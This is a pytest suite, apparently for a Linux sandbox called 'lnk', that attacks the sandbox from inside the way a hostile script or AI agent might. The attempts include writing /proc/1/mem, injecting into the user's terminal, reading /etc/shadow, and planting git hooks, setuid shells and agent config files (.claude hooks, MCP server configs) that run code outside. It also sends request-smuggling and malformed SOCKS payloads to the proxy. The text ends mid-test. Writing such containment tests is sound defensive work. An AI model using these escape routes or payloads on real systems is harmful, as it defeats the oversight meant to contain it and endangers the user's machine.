"""Attacks from inside a sandbox, the way a hostile script or AI agent would
try them (docs/design.md, invariants 1-9).

Each test PASSES when the sandbox holds and FAILS when the attack works, so
it guards against regressions. A hole found and not yet fixed is marked
`xfail(strict=True, reason="HOLE: ...")`: the suite stays green while it is
open and turns red the day it is fixed, so the mark gets removed.

The tests run as an unprivileged user and as root (tests/run-all). Network
tests use only loopback and the test hosts of tests/e2e/nethosts.sh
(198.18.0.0/15 behind a blackhole route).
"""
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time

import pytest

from conftest import FORKER, HELPERS, IS_ROOT, LNK, helper, on_lnk_path

PY = "/usr/bin/python3"


def py(lnk, code, *grants, timeout=60, **kw):
    """Runs python CODE in a sandbox with GRANTS; returns the CompletedProcess."""
    return lnk.run(*grants, "--", PY, "-c", textwrap.dedent(code),
                   timeout=timeout, **kw)


def sh(lnk, script, *grants, timeout=60, **kw):
    return lnk.run(*grants, "--", "/bin/sh", "-c", script, timeout=timeout,
                   **kw)


def top_names(d):
    return sorted(p.name for p in pathlib.Path(d).iterdir())


# =============================================================================
# The dot-file supervisor as a confused deputy (invariants 2 and 5)
#
# Every open() with O_CREAT goes to the supervisor outside, which opens the
# file itself and injects the fd. Whatever it opens, it opens with its own
# credentials and without the program's Landlock domain.
# =============================================================================

def test_pid1_memory_not_writable_through_supervisor(lnk, work):
    """Threat: O_CREAT on /proc/1/mem, then run code in pid 1 unconfined."""
    attack = helper("attack_pid1")
    target = work / ".envrc"
    cp = lnk.run("--write", work, "--read", HELPERS, "--", attack,
                 f"echo pwned > {target}", timeout=60)
    assert not target.exists(), cp.stdout + cp.stderr
    assert "O_CREAT open /proc/1/mem: opened" not in cp.stdout, cp.stdout


@pytest.mark.parametrize("path", ["/proc/1/mem", "/proc/1/maps",
                                  "/proc/1/environ"])
def test_proc_of_pid1_not_opened_by_supervisor(lnk, work, path):
    """Threat: read/write another process's memory or maps via the deputy."""
    cp = py(lnk, f"""
        import os
        for fl in (os.O_RDONLY, os.O_RDONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT):
            try:
                os.close(os.open({path!r}, fl)); print("opened", fl)
            except OSError as e:
                print("refused", fl, e.errno)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "opened" not in cp.stdout, cp.stdout


def test_proc_not_reached_through_magic_link_reopen(lnk, work):
    """Threat: an O_PATH fd on /proc/1/mem reopened with O_CREAT through
    /proc/self/fd/N, which the supervisor reopens for the program."""
    cp = py(lnk, """
        import os
        for p in ("/proc/1/mem", "/proc/1/environ", "/proc/1/maps"):
            o = os.open(p, os.O_PATH)
            for fl in (os.O_RDONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT):
                for via in ("/proc/self/fd/%d" % o, "/dev/fd/%d" % o):
                    try:
                        os.close(os.open(via, fl)); print("opened", p, fl)
                    except OSError as e:
                        print("refused", p, e.errno)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "opened" not in cp.stdout, cp.stdout
    assert cp.stdout.count("refused") == 12, cp.stdout


def test_dev_tty_is_never_lnks_own_terminal(lnk, work):
    """Threat: `echo x > /dev/tty` (O_CREAT) opened by the supervisor names
    ITS controlling terminal, the user's real one, past the sandbox's
    --new-session: the program could read keystrokes or type there."""
    import pty
    import termios
    master, slave = pty.openpty()

    def ctty():
        os.setsid()
        import fcntl
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

    code = textwrap.dedent("""
        import os
        for fl in (os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT | os.O_TRUNC):
            try:
                fd = os.open("/dev/tty", fl)
                os.write(fd, b"INJECTED-BY-SANDBOX\\n"); print("WROTE")
            except OSError as e:
                print("refused", e.errno)
    """)
    try:
        cp = lnk.run("--write", work, "--", PY, "-c", code, timeout=60,
                     stdin=subprocess.DEVNULL, preexec_fn=ctty)
        os.set_blocking(master, False)
        seen = b""
        try:
            while True:
                b = os.read(master, 4096)
                if not b:
                    break
                seen += b
        except OSError:
            pass
    finally:
        os.close(master)
        os.close(slave)
    assert b"INJECTED-BY-SANDBOX" not in seen, (seen, cp.stdout)
    assert "WROTE" not in cp.stdout, cp.stdout
    assert cp.stdout.count("refused 6") == 2, cp.stdout + cp.stderr


def test_own_seccomp_listener_cannot_steal_creates(lnk, work):
    """Threat: our own USER_NOTIF filter answers CONTINUE for .envrc."""
    attack = helper("attack_notify")
    cp = lnk.run("--write", work, "--read", HELPERS, "--", attack, ".envrc")
    assert cp.returncode == 3, cp.stdout + cp.stderr
    assert not (work / ".envrc").exists()


# =============================================================================
# Invariant 1: reads
# =============================================================================

@pytest.mark.parametrize("path", [
    "/etc/shadow", "/etc/machine-id", "/etc/sudoers", "/etc/ssh", "/sys",
    "/sys/kernel", "/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg",
    "/dev/console", "/boot", "/root", "/var/log", "/run/user",
    "/proc/1/root/etc/shadow", "/proc/kcore"])
def test_system_secrets_unreadable(lnk, path):
    """Threat: read machine secrets, raw disks or kernel memory."""
    cp = py(lnk, f"""
        import os
        try:
            if os.path.isdir({path!r}):
                print("LISTED", os.listdir({path!r})[:3])
            else:
                with open({path!r}, "rb") as f:
                    print("READ", f.read(16))
        except OSError as e:
            print("refused", e.errno)
    """)
    assert cp.returncode == 0, cp.stderr
    assert "refused" in cp.stdout or "LISTED []" in cp.stdout, cp.stdout


def test_host_tmp_and_other_homes_invisible(lnk, tmp_path):
    """Threat: read host /tmp files and other users' homes."""
    bait = pathlib.Path("/tmp") / f"lnk-redteam-bait-{os.getpid()}"
    bait.write_text("host tmp secret")
    try:
        cp = sh(lnk, f"cat {bait} 2>&1; ls /home 2>&1; ls /tmp")
    finally:
        bait.unlink()
    assert "host tmp secret" not in cp.stdout
    for name in os.listdir("/home") if os.path.isdir("/home") else []:
        assert name not in cp.stdout.split(), cp.stdout


def test_planted_symlinks_in_read_folder_lead_nowhere(lnk, home, work):
    """Threat: a symlink planted in a granted folder points at secrets."""
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (home / ".lnk" / "sandbox").mkdir(parents=True, exist_ok=True)
    (home / ".lnk" / "bait").write_text("LNK SETTINGS")
    (work / "key").symlink_to(home / ".ssh" / "id_ed25519")
    (work / "settings").symlink_to(home / ".lnk")
    (work / "up").symlink_to("../.ssh")
    cp = sh(lnk, "cat key settings/bait up/id_ed25519 "
                 "settings/sandbox/lnk.db 2>&1", "--read", work)
    assert "PRIVATE KEY" not in cp.stdout
    assert "LNK SETTINGS" not in cp.stdout
    assert "SQLite" not in cp.stdout


@pytest.mark.parametrize("how", ["symlink", "dotdot", "dot", "spec-symlink",
                                 "spec-dotdot", "subfolder"])
def test_grant_of_lnk_settings_refused(lnk, home, work, how):
    """Threat: a grant that opens ~/.lnk through a symlink or `..`."""
    (home / ".lnk" / "sandbox").mkdir(parents=True, exist_ok=True)
    (work / "s").symlink_to(home / ".lnk")
    grants = {
        "symlink": ["--read", work / "s"],
        "dotdot": ["--read", f"{work}/../.lnk"],
        "dot": ["--write", f"{home}/./.lnk/."],
        "subfolder": ["--write", home / ".lnk" / "sandbox"],
    }
    if how.startswith("spec"):
        target = "s" if how == "spec-symlink" else "../.lnk"
        (work / "app.toml").write_text(
            f'name = "app"\nversion = 1\n[files]\nwrite = ["{target}"]\n')
        grants = ["--spec", work / "app.toml", "--yes"]
    else:
        grants = grants[how]
    cp = lnk.run(*grants, "--", "true")
    assert cp.returncode == 2, (cp.returncode, cp.stderr)
    assert "settings" in cp.stderr


@pytest.mark.parametrize("path", ["/", "/proc", "/sys", "/dev", "/run",
                                  "/proc/1", "/sys/kernel", "/run/user"])
def test_grant_that_reaches_outside_refused(lnk, path):
    """Threat: a grant that exposes the kernel, devices or host daemons."""
    if not os.path.exists(path):
        pytest.skip(f"{path} does not exist here")
    cp = lnk.run("--read", path, "--", "true")
    assert cp.returncode == 2, (cp.returncode, cp.stderr)


def test_host_unix_socket_in_read_folder_unreachable(lnk, work):
    """Threat: talk to a host daemon (gpg-agent, docker) via a granted folder."""
    path = work / "agent.sock"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(path))
    os.chmod(path, 0o777)
    srv.listen(4)
    try:
        cp = py(lnk, f"""
            import socket
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect({str(path)!r}); print("CONNECTED")
            except OSError as e:
                print("refused", e.errno)
        """, "--read", work)
    finally:
        srv.close()
    assert "CONNECTED" not in cp.stdout, cp.stdout


# =============================================================================
# Invariant 2: writes, and the dot files at the top of --write folders
# =============================================================================

DOT_WAYS = {
    "proc-self-cwd": 'mk("/proc/self/cwd/.envrc")',
    "proc-thread-self-cwd": 'mk("/proc/thread-self/cwd/.envrc")',
    "proc-pid-cwd": 'mk("/proc/%d/cwd/.envrc" % os.getpid())',
    "proc-self-root": 'mk("/proc/self/root" + W + "/.envrc")',
    "proc-1-root": 'mk("/proc/1/root" + W + "/.envrc")',
    "proc-1-cwd": 'mk("/proc/1/cwd/.envrc")',
    "double-slash": 'mk("/" + W + "//.envrc")',
    "proc-self-fd-dir": 'mk("/proc/self/fd/%d/.envrc" % os.open(".", os.O_PATH))',
    "dev-fd-dir": 'mk("/dev/fd/%d/.envrc" % os.open(".", os.O_PATH))',
    "opath-dirfd": 'os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, dir_fd=os.open(".", os.O_PATH)))',
    "sub-dotdot": 'os.makedirs("sub", exist_ok=True); mk("sub/../.envrc")',
    "self-symlink-dir": 'os.symlink(".", "me"); mk("me/me/.envrc")',
    "symlink-relative": 'os.symlink(".envrc", "x"); mk("x")',
    "symlink-absolute": 'os.symlink(W + "/.envrc", "x"); mk("x")',
    "symlink-chain": 'os.symlink(".envrc", "a"); os.symlink("a", "b"); mk("b")',
    "symlink-magic": 'os.symlink("/proc/self/cwd/.envrc", "x"); mk("x")',
    "mkdir-trailing-slash": 'os.mkdir(".vscode/")',
    "mkdir-double-slash": 'os.mkdir("./.vscode//")',
    "mkdir-git-via-symlinked-parent": 'os.symlink(".", "me"); os.mkdir("me/.git")',
    "rename-onto": 'open("t", "w").close(); os.rename("t", ".envrc")',
    "rename-dir-onto": 'os.mkdir("d"); os.rename("d", ".git")',
    "link": 'open("t", "w").close(); os.link("t", ".envrc")',
    "mkfifo": 'os.mkfifo(".envrc")',
    "mknod": 'os.mknod(".envrc")',
    "bind-unix": 'socket.socket(socket.AF_UNIX).bind(".envrc")',
    "bind-unix-abs": 'socket.socket(socket.AF_UNIX).bind(W + "/.envrc")',
    "tmpfile-link": 'fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o644); os.link("/proc/self/fd/%d" % fd, ".envrc")',
    "tmpfile-linkat-empty": 'fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o644); chk(libc.linkat(fd, b"", -100, b".envrc", 0x1000))',
    "renameat2-noreplace": 'open("t", "w").close(); chk(libc.renameat2(-100, b"t", -100, b".envrc", 1))',
    "renameat2-whiteout": 'open("t", "w").close(); chk(libc.renameat2(-100, b"t", -100, b".envrc", 4))',
    "renameat2-exchange": 'open("t", "w").close(); chk(libc.renameat2(-100, b"t", -100, b".envrc", 2))',
    "symlinkat-name": 'os.symlink("/etc/passwd", ".envrc")',
    "creat-syscall": 'chk(libc.syscall(85, b".envrc", 0o644))',
    "open-syscall": 'chk(libc.syscall(2, b".envrc", 0o101, 0o644))',
    "openat-high-flag-bits": 'chk(libc.syscall(257, -100, b".envrc", 0x100000041 | (1 << 40), 0o644))',
    "clone-vm-thread-race": 'import threading; [threading.Thread(target=lambda: mk(".envrc")).start() for _ in range(8)]; time.sleep(1)',
}

DOT_PRELUDE = """
import ctypes, os, socket, sys, time
W = os.getcwd()
libc = ctypes.CDLL(None, use_errno=True)
def chk(r):
    if r < 0:
        raise OSError(ctypes.get_errno(), "refused")
def mk(p):
    os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o644))
try:
"""


@pytest.mark.parametrize("way", sorted(DOT_WAYS))
def test_dot_file_never_created(lnk, work, way):
    """Threat: create .envrc/.git/.vscode at the top by an unusual path."""
    before = top_names(work)
    code = DOT_PRELUDE + "    " + DOT_WAYS[way] + "\n" + \
        "    print('no error')\nexcept OSError as e:\n" \
        "    print('refused', e.errno)\n"
    cp = lnk.run("--write", work, "--", PY, "-c", code, cwd=work)
    created = set(top_names(work)) - set(before)
    assert not created & {".envrc", ".git", ".vscode"}, (created, cp.stdout,
                                                          cp.stderr)


def test_existing_git_cannot_be_changed_or_moved(lnk, work):
    """Threat: write a hook, chmod, replace or unmount an existing .git."""
    hooks = work / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (work / ".git" / "config").write_text("[core]\n")
    cp = sh(lnk, """
        echo evil > .git/hooks/pre-commit; chmod 777 .git/config
        echo '[core] fsmonitor = evil' >> .git/config
        mv .git gone; rm -rf .git; mv .git/hooks .git/h
        mkdir d; mv d .git; ln -s /tmp .git/hooks/x
        python3 -c 'import os; os.rename(".git", "g")'
        umount .git; true""", "--write", work)
    assert not (hooks / "pre-commit").exists(), cp.stderr
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert oct((work / ".git" / "config").stat().st_mode & 0o777) != "0o777"
    assert sorted(p.name for p in hooks.iterdir()) == []
    assert not (work / "gone").exists() and not (work / "g").exists()


# Run as root, a setuid binary left in a --write folder gives any local
# user a root shell (the nosuid mount holds only inside). Refused by the
# seccomp filter (src/init/seccomp_policy.c, "no setuid or setgid files":
# chmod/fchmod/fchmodat(2) with S_ISUID|S_ISGID in the mode) and by the
# guard, which strips the bits from the modes of the creations it performs.
@pytest.mark.parametrize("how", ["chmod", "open-mode", "mknod-mode",
                                 "tmpfile-mode", "fchmod"])
def test_no_setuid_file_lands_on_host(lnk, work, how):
    """Threat: leave a setuid binary in a --write folder (root: local root)."""
    code = {
        "chmod": 'import shutil; shutil.copy("/bin/sh", "s"); '
                 'os.chmod("s", 0o4755)',
        "open-mode": 'os.close(os.open("s", os.O_CREAT | os.O_WRONLY, 0o6755))',
        "mknod-mode": 'import stat; os.mknod("s", stat.S_IFREG | 0o4755)',
        "tmpfile-mode": 'import ctypes; libc = ctypes.CDLL(None); '
                        'fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o4755); '
                        'libc.linkat(-100, b"/proc/self/fd/%d" % fd, -100, '
                        'b"s", 0x400)',  # AT_SYMLINK_FOLLOW
        "fchmod": 'fd = os.open("s", os.O_CREAT | os.O_WRONLY, 0o755); '
                  'os.fchmod(fd, 0o4755)',
    }[how]
    cp = py(lnk, "import os\ntry:\n    " + code +
            "\nexcept OSError as e:\n    print('refused', e.errno)\n",
            "--write", work)
    s = work / "s"
    assert not (s.exists() and s.stat().st_mode & 0o6000), \
        (oct(s.stat().st_mode), cp.stdout, cp.stderr)


def test_read_folder_not_writable_through_fd_tricks(lnk, home, work):
    """Threat: write a --read file via O_PATH reopen or a supervised O_CREAT."""
    ro = home / "ro"
    ro.mkdir()
    (ro / "f").write_text("orig")
    cp = py(lnk, f"""
        import os
        p = {str(ro / "f")!r}
        o = os.open(p, os.O_PATH)
        tries = [lambda: os.open("/proc/self/fd/%d" % o, os.O_WRONLY),
                 lambda: os.open("/proc/self/fd/%d" % o, os.O_WRONLY | os.O_CREAT),
                 lambda: os.open(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC),
                 lambda: os.open({str(ro / "new")!r}, os.O_WRONLY | os.O_CREAT),
                 lambda: os.open("/proc/self/root" + p, os.O_RDWR | os.O_CREAT)]
        for t in tries:
            try:
                fd = t(); os.write(fd, b"PWNED"); print("WROTE")
            except OSError as e:
                print("refused", e.errno)
    """, "--read", ro, "--write", work)
    assert (ro / "f").read_text() == "orig", cp.stdout
    assert not (ro / "new").exists()
    assert "WROTE" not in cp.stdout


def test_mount_table_cannot_change(lnk, work):
    """Threat: mount, unmount, pivot_root, new mount API, unshare+mount."""
    cp = py(lnk, """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        calls = {
            "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            "bind": lambda: libc.mount(b"/", b"/tmp", None, 4096, None),
            "umount": lambda: libc.umount2(os.getcwd().encode() + b"/.git", 2),
            "pivot_root": lambda: libc.syscall(155, b"/tmp", b"/tmp"),
            "chroot": lambda: libc.chroot(b"/tmp"),
            "open_tree": lambda: libc.syscall(428, -100, b"/", 1),
            "fsopen": lambda: libc.syscall(430, b"tmpfs", 0),
            "unshare-mnt": lambda: libc.unshare(0x20000),
            "unshare-user": lambda: libc.unshare(0x10000000),
            "clone3": lambda: libc.syscall(435, None, 0),
            "setns": lambda: libc.setns(0, 0),
        }
        for k, f in calls.items():
            r = f()
            print(k, "OK" if r >= 0 else "refused")
    """, "--write", work)
    lines = cp.stdout.split("\n")
    assert len([l for l in lines if l]) == 11, cp.stdout + cp.stderr
    assert not [l for l in lines if l.endswith(" OK")], cp.stdout



# Names that run code outside the sandbox, found missing from the protected
# list (src/policy/dotfiles.c) by this file and added there. With --write '~'
# the top is the home, where each of these runs as the user next time git,
# vim, tmux, an agent... starts.
HOME_RUNS_OUTSIDE = {
    ".gitconfig": "git runs core.fsmonitor, core.pager, aliases from it",
    ".vimrc": "vim runs its commands",
    ".tmux.conf": "tmux runs run-shell lines",
    ".inputrc": "readline macros type commands into the user's shell",
    ".claude": "Claude Code runs the hooks in its settings.json",
    ".cargo": "cargo runs build.rustc-wrapper; ~/.cargo/bin is on PATH",
    ".docker": "docker runs the credential helpers config.json names",
    ".kube": "kubectl runs exec credential plugins",
    ".aws": "the AWS CLI runs credential_process",
    ".gdbinit": "gdb runs it",
    ".pam_environment": "login sets LD_PRELOAD etc. from it",
    ".xprofile": "the display manager sources it",
}

# Names that run code outside when they appear at the top of a project.
PROJECT_RUNS_OUTSIDE = {
    ".claude": "Claude Code runs the hooks of .claude/settings.json",
    ".cursor": "Cursor starts the MCP servers of .cursor/mcp.json",
    ".mise.toml": "mise runs its env hooks on cd, like direnv",
    ".yarnrc.yml": "yarn runs the yarnPath script it names",
    ".gitlab-ci.yml": "CI runs it with the project's tokens",
    ".devcontainer": "the editor builds and runs the container it names",
    ".Rprofile": "R runs it when started in the folder",
}


@pytest.mark.parametrize("name", [
    pytest.param(n) for n in sorted(HOME_RUNS_OUTSIDE)] + [
    pytest.param(n) for n in (".bashrc", ".profile", ".ssh", ".config",
                              ".local", ".npmrc", ".zshenv")])
def test_home_dot_files_that_run_outside_not_created(lnk, home, name):
    """Threat: --write '~' lets it plant ~/.gitconfig, ~/.vimrc, ..."""
    cp = sh(lnk, f"echo evil > ~/{name}; mkdir -p ~/{name}/x 2>/dev/null",
            "--write", home)
    assert not (home / name).exists(), cp.stderr


@pytest.mark.parametrize("name", sorted(PROJECT_RUNS_OUTSIDE))
def test_project_dot_files_that_run_outside_not_created(lnk, work, name):
    """Threat: an agent plants .claude/settings.json hooks in the project."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr


@pytest.mark.parametrize("name", [
    ".gemini", ".qwen", ".codex", "opencode.json", "opencode.jsonc",
    ".opencode", ".kiro", ".amazonq", ".roo", ".continue", ".junie",
    "crush.json", ".crush.json", ".aider.conf.yml"])
def test_agent_configs_that_start_servers_not_created(lnk, work, name):
    """Threat: a coding agent run later in the project, outside any
    sandbox, starts the MCP servers its project config names (Gemini CLI
    and Qwen Code: .gemini/settings.json, .qwen/settings.json, folder trust
    off by default; OpenCode: opencode.json(c) or .opencode/; Kiro, Roo,
    Continue, Junie, Crush, Codex in a trusted project) or runs the lint
    and test commands it sets (aider): a command the program chose runs as
    the user."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr


@pytest.mark.skipif(not IS_ROOT, reason="needs root to own a file as "
                    "another user")
def test_root_supervisor_does_not_read_other_users_files(lnk, work):
    """Threat (root): O_CREAT makes the supervisor open a 0600 file of nobody."""
    secret = work / "secret"
    secret.write_text("nobody's secret")
    os.chown(secret, 65534, 65534)
    secret.chmod(0o600)
    other = work / "other"
    other.mkdir()
    os.chown(other, 65534, 65534)
    cp = py(lnk, """
        import os
        for fl in (os.O_RDONLY, os.O_RDONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT):
            try:
                print("READ", os.read(os.open("secret", fl), 100))
            except OSError as e:
                print("refused", e.errno)
        for f in (lambda: os.open("other/x", os.O_CREAT | os.O_WRONLY),
                  lambda: os.mkdir("other/d")):
            try:
                f(); print("CREATED")
            except OSError as e:
                print("refused", e.errno)
    """, "--write", work)
    assert "READ" not in cp.stdout and "CREATED" not in cp.stdout, cp.stdout
    assert os.listdir(other) == []


# =============================================================================
# Invariant 3: network
# =============================================================================

class Recorder:
    """A host TCP server on 0.0.0.0 that records every connection."""

    def __init__(self):
        self.s = socket.socket()
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.s.bind(("0.0.0.0", 0))
        self.s.listen(64)
        self.port = self.s.getsockname()[1]
        self.hits = []
        self.t = threading.Thread(target=self._loop, daemon=True)
        self.t.start()

    def _loop(self):
        while True:
            try:
                c, a = self.s.accept()
            except OSError:
                return
            self.hits.append(a)
            try:
                c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 12\r\n\r\n"
                          b"HOST-SECRET\n")
            except OSError:
                pass
            c.close()

    def close(self):
        self.s.close()


@pytest.fixture
def recorder():
    r = Recorder()
    yield r
    r.close()


def nethosts():
    env = pathlib.Path("/run/lnk-nethosts.env")
    if not env.exists():
        pytest.skip("no test hosts: run tests/e2e/nethosts.sh up as root")
    f = dict(line.partition("=")[::2] for line in env.read_text().split())
    return f


def local_addresses():
    """This machine's own IPv4 addresses (traffic to them never leaves)."""
    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True,
                         text=True).stdout
    return [l.split()[3].split("/")[0] for l in out.splitlines()
            if " inet " in l]


def test_no_grant_reaches_no_host_socket(lnk, recorder):
    """Threat: with no grant, reach host loopback or abstract unix sockets."""
    name = f"lnk-redteam-{os.getpid()}"
    a = socket.socket(socket.AF_UNIX)
    a.bind("\0" + name)
    a.listen(4)
    try:
        cp = py(lnk, f"""
            import socket
            tries = [(socket.AF_INET, ("127.0.0.1", {recorder.port})),
                     (socket.AF_INET6, ("::1", {recorder.port})),
                     (socket.AF_UNIX, "\\0{name}")]
            tries += [(socket.AF_INET, (a, {recorder.port}))
                      for a in {local_addresses()!r}]
            for fam, addr in tries:
                s = socket.socket(fam)
                s.settimeout(3)
                try:
                    s.connect(addr); print("CONNECTED", addr)
                except OSError as e:
                    print("refused", e.errno)
        """)
    finally:
        a.close()
    assert "CONNECTED" not in cp.stdout, cp.stdout
    assert recorder.hits == []


PROXY_PRELUDE = """
import socket, struct
def raw(port, data, wait=3):
    s = socket.create_connection(("127.0.0.1", port)); s.settimeout(wait)
    s.sendall(data); out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b: break
            out += b
    except OSError:
        pass
    s.close(); return out
def socks(atyp, addr, port):
    s = socket.create_connection(("127.0.0.1", 1080)); s.settimeout(3)
    s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
    s.sendall(b"\\x05\\x01\\x00" + bytes([atyp]) + addr + struct.pack(">H", port))
    try:
        r = s.recv(10)
        if r[:2] == b"\\x05\\x00":
            s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"); r += s.recv(100)
    except OSError:
        r = b""
    s.close(); return r
"""


def test_smuggling_never_reaches_a_second_host(lnk, recorder):
    """Threat: pipelined, CONNECT-after-GET and userinfo tricks reach loopback."""
    f = nethosts()
    P = recorder.port
    o = ("GET http://origin.lnk-test/hello.txt HTTP/1.1\\r\\n"
         "Host: origin.lnk-test\\r\\n\\r\\n")
    reqs = [
        o + f"GET http://127.0.0.1:{P}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        o + f"GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{P}\\r\\n\\r\\n",
        o + f"CONNECT 127.0.0.1:{P} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n",
        f"GET http://origin.lnk-test@127.0.0.1:{P}/ HTTP/1.1\\r\\n\\r\\n",
        f"GET http://127.0.0.1:{P}#@origin.lnk-test/ HTTP/1.1\\r\\n\\r\\n",
        f"GET http://127.0.0.1:{P}\\\\@origin.lnk-test/ HTTP/1.1\\r\\n\\r\\n",
        f"GET http://origin.lnk-test/ HTTP/1.1\\r\\nHost: 127.0.0.1:{P}\\r\\n"
        "\\r\\n",
        f"CONNECT origin.lnk-test@127.0.0.1:{P} HTTP/1.1\\r\\n\\r\\n",
        f"CONNECT 127.0.0.1:{P}:80 HTTP/1.1\\r\\n\\r\\n",
        "POST http://origin.lnk-test/ HTTP/1.1\\r\\nHost: origin.lnk-test\\r\\n"
        "Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n"
        f"\\r\\nGET http://127.0.0.1:{P}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
    ]
    for a in local_addresses() + ["0.0.0.0", "[::]", "[::ffff:127.0.0.1]",
                                  "127.1", "2130706433", "0x7f000001",
                                  "127.0.0.1.", "LOCALHOST", "0"]:
        reqs.append(f"GET http://{a}:{P}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        reqs.append(f"CONNECT {a}:{P} HTTP/1.1\\r\\n\\r\\n")
    code = PROXY_PRELUDE + "\n".join(
        f'print(raw(3128, b"{r}")[:200])' for r in reqs)
    socks_v4 = local_addresses() + ["127.0.0.1", "0.0.0.0"]
    code += "\n" + "\n".join(
        f'print(socks(1, socket.inet_aton("{a}"), {P}))' for a in socks_v4)
    for a in ["::1", "::", "::ffff:127.0.0.1", "::127.0.0.1"]:
        code += f'\nprint(socks(4, socket.inet_pton(socket.AF_INET6, "{a}"), {P}))'
    for d in ["127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001",
              "[::1]", "::ffff:127.0.0.1", "0", "rebind.lnk-test",
              "self.lnk-test", "mixed.lnk-test", "private.lnk-test",
              "origin.lnk-test\\x00.x", "localhost."]:
        code += f'\nprint(socks(3, bytes([len(b"{d}")]) + b"{d}", {P}))'
    cp = lnk.run("--internet-host", "*", "--", PY, "-c", code, timeout=120,
                 env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    assert "HOST-SECRET" not in cp.stdout, cp.stdout
    assert recorder.hits == [], (recorder.hits, cp.stdout)
    # the wire did answer (refusals), so the tries were really made
    assert cp.stdout.count("403 Forbidden") >= 10, cp.stdout + cp.stderr
    assert "hello from ori" in cp.stdout, cp.stdout


def test_wire_survives_hostile_clients(lnk):
    """Threat: slow/oversized heads, bad SOCKS5 and a flood stop the wire."""
    f = nethosts()
    code = PROXY_PRELUDE + textwrap.dedent(r"""
        import os, time
        held = []
        for i in range(300):  # a flood of idle connections
            try:
                held.append(socket.create_connection(("127.0.0.1", 3128)))
            except OSError:
                break
        for i in range(50):   # slow heads, never finished
            try:
                s = socket.create_connection(("127.0.0.1", 3128))
                s.sendall(b"GET http://origin.lnk-test/ HTTP/1.1\r\nX: ")
                held.append(s)
            except OSError:
                break
        bad = [b"\x05", b"\x05\x00", b"\x05\xff" + b"\x00" * 255,
               b"\x05\x01\x00\x05\x01\x00\x03\x00\x00\x50",
               b"\x05\x01\x00\x05\x01\x00\x03\xff" + b"a" * 255 + b"\x00\x50",
               b"\x05\x01\x00\x05\x01\x00\x09\x7f\x00\x00\x01\x00\x50",
               b"\x05\x01\x00\x05\x02\x00\x01\x7f\x00\x00\x01\x00\x50",
               b"\x05\x01\x00\x05\x03\x00\x01\x7f\x00\x00\x01\x00\x50",
               b"\x04\x01\x00\x50\x7f\x00\x00\x01root\x00",
               b"\x05\x01\x02\x01\x05admin\x05admin"]
        for b in bad:
            print("socks", raw(1080, b, 2)[:12])
        print("huge", raw(3128, b"GET http://origin.lnk-test/ HTTP/1.1\r\n"
                          + b"A: " + b"a" * 1000000 + b"\r\n\r\n", 5)[:40])
        print("many", raw(3128, b"GET http://origin.lnk-test/ HTTP/1.1\r\n"
                          + b"A: b\r\n" * 100000 + b"\r\n", 5)[:40])
        print("nul", raw(3128, b"GET http://origin.lnk-test/\x00 HTTP/1.1\r\n\r\n")[:40])
        print("neg", raw(3128, b"POST http://origin.lnk-test/ HTTP/1.1\r\n"
                         b"Content-Length: -1\r\n\r\n")[:40])
        print("big", raw(3128, b"POST http://origin.lnk-test/ HTTP/1.1\r\n"
                         b"Content-Length: 99999999999999999999999\r\n\r\n")[:40])
        for s in held:
            s.close()
        time.sleep(0.5)
        good = raw(3128, b"GET http://origin.lnk-test/hello.txt HTTP/1.1\r\n"
                   b"Host: origin.lnk-test\r\n\r\n", 10)
        print("GOOD" if b"hello from origin" in good else "BROKEN", good[:80])
    """)
    cp = lnk.run("--internet-host", "origin.lnk-test", "--", PY, "-c", code,
                 timeout=180, env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"]})
    assert "GOOD" in cp.stdout, cp.stdout + cp.stderr



# =============================================================================
# Invariant 4: environment and inherited descriptors
# =============================================================================

def test_secrets_in_environment_do_not_reach(lnk):
    """Threat: tokens, agent sockets and loader tricks in the environment."""
    env = {"AWS_SECRET_ACCESS_KEY": "s3cr3t-aws", "GITHUB_TOKEN": "s3cr3t-gh",
           "SSH_AUTH_SOCK": "/tmp/s3cr3t-agent", "LD_LIBRARY_PATH": "/s3cr3t",
